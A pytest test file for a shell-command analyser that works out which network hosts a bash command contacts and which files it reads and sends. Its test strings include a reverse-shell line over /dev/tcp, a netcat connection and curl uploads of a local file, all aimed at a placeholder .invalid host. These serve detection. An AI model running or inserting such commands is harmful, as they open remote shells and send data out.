"""Which hosts a command names."""

from __future__ import annotations

import pytest

from guildmark.lenses.scripts.bash import effects


@pytest.mark.parametrize(
    "source",
    [
        "curl -sSL http://h.example.invalid/x",
        "curl h.example.invalid/x",
        "curl -H 'Referer: http://other.example.invalid/' --url=https://h.example.invalid:8443/x",
        "curl https://user:secret@h.example.invalid/x",
        "wget -q https://h.example.invalid/x",
        "sudo curl http://h.example.invalid/",
        "git clone https://h.example.invalid/r.git",
        "pip install --index-url https://h.example.invalid/simple x",
        "ssh -p 22 u@h.example.invalid ls",
        "nc -w 3 h.example.invalid 4444",
        "ping -c 1 h.example.invalid",
        "scp p u@h.example.invalid:/tmp",
        "cat < /dev/tcp/h.example.invalid/80",
        "bash -i >& /dev/tcp/h.example.invalid/80 0>&1",
        "exec 3<>/dev/tcp/h.example.invalid/80",
        "U=http://h.example.invalid; curl $U/x",
        "bash -c 'curl http://h.example.invalid'",
        "find . -exec curl http://h.example.invalid/ {} +",
        "node -e \"fetch('https://h.example.invalid/x')\"",
    ],
)
def test_a_host(source):
    assert [host.name for host in effects(source).hosts] == ["h.example.invalid"]


@pytest.mark.parametrize(
    "source",
    [
        "echo http://h.example.invalid/x",
        "git commit -m 'see http://h.example.invalid/x'",
        "grep http://h.example.invalid p",
        "# curl http://h.example.invalid",
        "cat p",
    ],
)
def test_text_about_a_host_is_none(source):
    assert effects(source).hosts == ()


def test_a_host_that_only_a_run_can_tell_is_a_doubt():
    found = effects("curl https://$H/x; curl $U")
    assert len(found.unknown) == 2


@pytest.mark.parametrize("source", ["curl -d @p http://h.example.invalid", "curl -F f=@p http://h.example.invalid"])
def test_what_is_sent_is_read_and_not_shown(source):
    assert [(read.path, read.shown) for read in effects(source).reads] == [("p", False)]
